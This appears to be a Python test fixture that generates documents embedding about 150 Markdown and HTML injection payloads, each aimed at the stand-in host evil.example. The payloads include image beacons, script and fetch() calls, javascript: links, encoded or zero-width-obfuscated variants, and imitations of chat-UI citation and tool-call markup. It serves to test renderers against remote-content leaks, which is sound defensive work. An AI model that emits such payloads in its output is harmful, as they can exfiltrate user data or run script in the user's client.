"""Documents that want a Markdown client to load, link or run something of another host."""

from itertools import islice

HOST = "evil.example"
_URL = f"http://{HOST}/q"
_TRICKS = (
    "![x]({u})", "![x](<{u}>)", "![x][r]\n\n[r]: {u}", "[y]({u})", "[y](javascript:fetch('{u}'))", "<{u}>", "{u}",
    "www.{h}/q", "<img src={u}>", "<img src=x onerror=\"fetch('{u}')\">", "<script src={u}></script>",
    "<script>fetch('{u}')</script>", "<svg onload=\"fetch('{u}')\"></svg>", "<iframe src={u}></iframe>",
    "<link rel=stylesheet href={u}>", "<style>@import url({u});</style>", "<video src={u} autoplay></video>",
    "<object data={u}></object>", "<body background={u}>", "<meta http-equiv=refresh content=\"0;url={u}\">",
    "<input type=image src={u}>", "<div style=\"background:url({u})\">d</div>",
    "<picture><source srcset={u}><img></picture>",
    "[![x]({u})]({u})", "![x\n](\n{u}\n)", "![a![b]({u})]({u})", "<a href={u} ping={u}>z</a>", "`a` ![x]({u}) `",
    "\\![x]({u})", "\\\\![x]({u})", "!\\[x]({u})", "&lt;img src={u}&gt;", "&#60;img src={u}&#62;", "**![x]({u})**",
    "| a | b |\n|---|---|\n| ![x]({u}) | c |", "> ![x]({u})", "- ![x]({u})", "1. ![x]({u})", "# ![x]({u})",
    "```html\n<img src={u}>\n```\n<img src={u}>", "    <img src={u}>\n\n<img src={u}>", "<!-- --><img src={u}>",
    "<![CDATA[<img src={u}>]]><img src={u}>", "<IMG SRC={u}>", "<img\nsrc={u}>", "<x/><img src={u}>",
    "$\\includegraphics{{{u}}}$ ![x]({u})", "\\[ \\href{{{u}}}{{x}} \\] ![x]({u})", "[^1]\n\n[^1]: ![x]({u})",
    "![x](//{h}/q)",
    "[x]({u} \"t\")", "[![x][r]][r]\n\n[r]: <{u}> 'title'", "![][r]\n\n[r]:\n{u}", "![x]( {u} =1x1)",
    "<{u}|x>", "{{{{{u}}}}}", "hxxp://{h}/q ![x](https:{h}/q)", "![x](\\\\{h}\\q)",
    "![x](http:&#x2F;&#x2F;{h}/q)", "![x](h%74tp://{h}/q)", "&#x3c;img src={u}&#x3e;",
    "&amp;lt;img src={u}&amp;gt;", "&lt;script&gt;fetch('{u}')&lt;/script&gt;", "&NewLine;![x]({u})",
    "\u200b![x]({u})", "!\u200b[x]({u})", "\u202e![x]({u})\u202c", "\uff01[x]({u}) \uff1cimg src={u}\uff1e",
    "\u2028![x]({u})", "\ufeff<img src={u}>", "<\u00adimg src={u}>", "\x0b<img\x0csrc={u}>",
    "!\u2060[x](\u2060{u})", "\U000e0021![x]({u})",
    "```mermaid\ngraph TD\nA[\"<img src='{u}'>\"] --> B\nclick B href \"{u}\"\n```",
    "```vega-lite\n{{\"data\": {{\"url\": \"{u}\"}}, \"mark\": \"bar\"}}\n```",
    "```svg\n<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>\n```",
    "```html\n<html><body><img src={u}></body></html>\n```", "~~~html\n<script src={u}></script>\n~~~",
    "```css\nbody {{ background: url({u}) }}\n```\n```html\n<p>x</p>\n```", "``` \n``` ![x]({u})",
    "````\n```\n````\n![x]({u})", "$$\\href{{{u}}}{{x}}$$", "\\(\\includegraphics{{{u}}}\\)",
    "\\[\\htmlStyle{{background:url({u})}}{{x}}\\]", "\\begin{{equation}}\\url{{{u}}}\\end{{equation}}",
    "$\\unicode{{x}}\\class{{y}}{{z}}$ <image href={u}>", "[1]({u})", "[1] ![1]({u})", "[1]: {u}\n\nSee [1].",
    "[1](javascript:fetch('{u}')) [2]", "\u30101\u2020{u}\u3011", "[^1]: {u}\n\nSee [^1].",
    "[1]<source id=\"1\" name=\"{u}\">x</source>", "<cite><a href={u}>1</a></cite>",
    "<details open><summary>s</summary><img src={u}></details>",
    "<details type=\"tool_calls\" done=\"true\" embeds=\"[&quot;{u}&quot;]\">x</details>",
    "<think>t</think><img src={u}>", "<file type=\"html\" id=\"{u}\" />",
    "<video><source src={u}></video><track src={u}>", "<audio src={u} autoplay></audio>", "<embed src={u}>",
    "<math><mtext><img src={u}></mtext></math>", "<svg><image xlink:href={u} /><use href={u} /></svg>",
    "<svg><style>@import url({u});</style></svg>",
    "<form action={u}><button autofocus onfocus=submit()>x</button></form>", "<base href={u}><img src=q>",
    "<iframe srcdoc=\"<img src={u}>\"></iframe>", "<iframe src=\"data:text/html,<img src={u}>\"></iframe>",
    "<link rel=prefetch href={u}><link rel=dns-prefetch href=//{h}>",
    "<script type=module>import '{u}'</script>", "<table background={u}><tr><td>x</table>",
    "<img srcset=\"{u} 1x\">", "<img src=\"ht\ntp://{h}/q\">", "<p style=\"list-style-image:url({u})\">",
    "<template><img src={u}></template><marquee onstart=\"fetch('{u}')\">",
    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>)",
    "[z](data:text/html,<img src={u}>)", "https://www.youtube.com/watch?v=dQw4w9WgXcQ ![x]({u})",
    ":::note\n![x]({u})\n:::", "!video[x]({u})", "@[x]({u})", "[[{u}]] ![[{u}]]", "![x]({u}){{width=1}}",
    "+++\nimage: {u}\n+++\n![x]({u})", "---\n![x]({u})\n---", "![x]({u})\n===", "* * *\n![x]({u})",
    "<!--\n-->![x]({u})", "<a href=\"{u}\" download>d</a> <area href={u}>",
    "![x](ftp://{h}/q) ![x](ws://{h}/q)", "mailto:a@{h} a@{h} xmpp:a@{h}",
    "![x](<{u}\n>) ![x](<javascript:x>)", "{h}/q https\u2236//{h}/q",
    "<h1>![x]({u})</h1>\n\n<div>\n\n![x]({u})\n\n</div>", "| ![x]({u}) |\n|-|", "- [ ] ![x]({u})",
    "> [!NOTE]\n> ![x]({u})", "Term\n: ![x]({u})", "~~![x]({u})~~ ==![x]({u})== ^![x]({u})^",
    "*[x]: {u}\n\nx ![x]({u})",
)  # fmt: skip
_AROUND = (
    "The harbour opens at nine {t} and closes when the last boat of the day is in.",
    "{t}\n\nThe harbour opens at nine and closes when the last boat of the day is in.",
    "The harbour opens at nine and closes when the last boat is in. {t}",
    "The harbour (see [{t}) opens at nine] and closes when the last boat of the day is in!",
)


def documents(number: int = 200) -> list[str]:
    """Different texts, each with one trick and what stands around it: every trick once, then again elsewhere."""
    pairs = (
        (_AROUND[(row + turn) % len(_AROUND)], trick)
        for turn in range(len(_AROUND))
        for row, trick in enumerate(_TRICKS)
    )
    made = (around.format(t=trick.format(u=_URL, h=HOST)) for around, trick in pairs)
    return list(islice(made, number))


EVERY = len(_AROUND) * len(_TRICKS)
